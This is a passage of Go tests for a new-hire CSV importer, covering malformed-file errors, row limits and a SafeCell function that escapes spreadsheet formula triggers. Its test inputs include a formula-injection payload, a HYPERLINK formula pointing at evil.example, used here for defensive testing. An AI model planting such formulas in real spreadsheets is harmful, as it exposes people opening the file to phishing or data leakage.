		{"NUL far into the file", strings.NewReader(good + strings.Repeat("Ada,Lovelace,ada@example.com,2025-01-06\n", 2000) + "Ada\x00,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 2003", "NUL"}},
		{"xlsx", strings.NewReader("PK\x03\x04\x14\x00\x06\x00"), onboard.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
		{"xls", bytes.NewReader([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0}), onboard.HireOptions{}, []string{"workbook", "save it as CSV UTF-8"}},
		{"empty", strings.NewReader(""), onboard.HireOptions{}, []string{"no header"}},
		{"BOM only", strings.NewReader("\ufeff"), onboard.HireOptions{}, []string{"no header"}},
		{"blank rows only", strings.NewReader(",,,\r\n,,,\r\n\r\n"), onboard.HireOptions{}, []string{"no header"}},
		{"data where the header should be", strings.NewReader("Ada,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 1", "not a header"}},
		{"join date column missing", strings.NewReader("First name,Last name,Email,Job title\nAda,Lovelace,ada@example.com,Analyst\n"), onboard.HireOptions{}, []string{"line 1", "lacks required columns: join_date", `"Start date"`}},
		{"two columns missing", strings.NewReader("Surname,Start date\nLovelace,2025-01-06\n"), onboard.HireOptions{}, []string{"first_name (e.g.", "email (e.g."}},
		{"a field named twice", strings.NewReader("First name,Last name,Email,Work email,Join date\n"), onboard.HireOptions{}, []string{"line 1", `columns 3 ("Email") and 4 ("Work email") both give email`}},
		{"a field named twice, aliases", strings.NewReader("First name,Last name,Email,Start date,Join date\n"), onboard.HireOptions{}, []string{"both give join_date"}},
		{"quote opened and never closed", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan@example.com,2025-01-20\n"), onboard.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
		{"quote closed rows later", strings.NewReader(good + "Grace,\"Hopper,grace@example.com,2025-01-13\nAlan,\"Turing, Jr.\",alan@example.com,2025-01-20\n"), onboard.HireOptions{}, []string{"lines 3-4", "unbalanced quotes"}},
		{"header unreadable", strings.NewReader("First name,\"Last\" name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{}, []string{"line 1", "header cannot be read"}},
		{"too many rows", strings.NewReader(good + "Grace,Hopper,grace@example.com,2025-01-13\nAlan,Turing,alan,2025-01-20\n"), onboard.HireOptions{MaxRows: 2}, []string{"line 4", "more than 2 rows"}},
		{"bad layout", strings.NewReader(good), onboard.HireOptions{DateLayout: "2006"}, []string{"DateLayout"}},
		{"read error at once", iotest.ErrReader(boom), onboard.HireOptions{}, nil},
		{"read error later", io.MultiReader(strings.NewReader(good), iotest.ErrReader(boom)), onboard.HireOptions{}, nil},
		{"read error past the first 64 KiB", io.MultiReader(strings.NewReader(good+strings.Repeat(",,,\n", 20000)), iotest.ErrReader(boom)), onboard.HireOptions{}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, p, err := onboard.ReadHires(tt.in, tt.opts)
			if err == nil {
				t.Fatalf("no error; hires %s problems %s", dump(h), dump(p))
			}
			if h != nil || p != nil {
				t.Errorf("with the error, hires %s problems %s", dump(h), dump(p))
			}
			if tt.want == nil && !errors.Is(err, boom) {
				t.Errorf("err = %v, want it to wrap %v", err, boom)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("err = %q, want it to say %q", err, w)
				}
			}
			if strings.ContainsAny(err.Error(), "\r\n") {
				t.Errorf("err = %q is not one line", err)
			}
			if strings.Contains(err.Error(), "Lovelace") {
				t.Errorf("err = %q echoes a row", err)
			}
		})
	}
}

func TestReadHiresMaxRows(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("First name,Last name,Email,Join date\n")
	for i := range 3 {
		fmt.Fprintf(&b, "Ada,Lovelace,ada%d@example.com,2025-01-06\n,,,\n", i)
	}
	b.WriteString("Bad,Row,bad,2025-01-06\n")
	in := b.String()
	if _, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{MaxRows: 4}); err != nil {
		t.Errorf("4 rows (and blank ones) with MaxRows 4: %v", err)
	}
	if _, _, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{MaxRows: 3}); err == nil {
		t.Error("4 rows with MaxRows 3: no error")
	}

	var big strings.Builder
	big.WriteString("First name,Last name,Email,Join date\n")
	for range onboard.DefaultMaxHireRows + 1 {
		big.WriteString("A,B,c,d\n")
	}
	if _, _, err := onboard.ReadHires(strings.NewReader(big.String()), onboard.HireOptions{}); err == nil || !strings.Contains(err.Error(), "more than 100000 rows") {
		t.Errorf("default limit: err = %v", err)
	}
}

func TestSafeCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"ada@example.com", "ada@example.com"},
		{"Zoë Ødegård", "Zoë Ødegård"},
		{"O'Brien", "O'Brien"},
		{"a=b", "a=b"},
		{"1+1", "1+1"},
		{`=HYPERLINK("https://evil.example","click")`, `'=HYPERLINK("https://evil.example","click")`},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"  =1+1", "'  =1+1"},
		{"\n@x", "'\n@x"},
		{"＝1+1", "'＝1+1"},
		{"'=1+1", "'=1+1"},
		{" ", " "},
	}
	for _, tt := range tests {
		if got := onboard.SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	// Through a CSV report and back, no formula-looking cell starts with a trigger.
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for _, tt := range tests {
		if err := w.Write([]string{onboard.SafeCell(tt.in), "x"}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		if c := strings.TrimLeft(rec[0], " \n"); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("report cell %q starts with a formula trigger", rec[0])
		}
	}
}
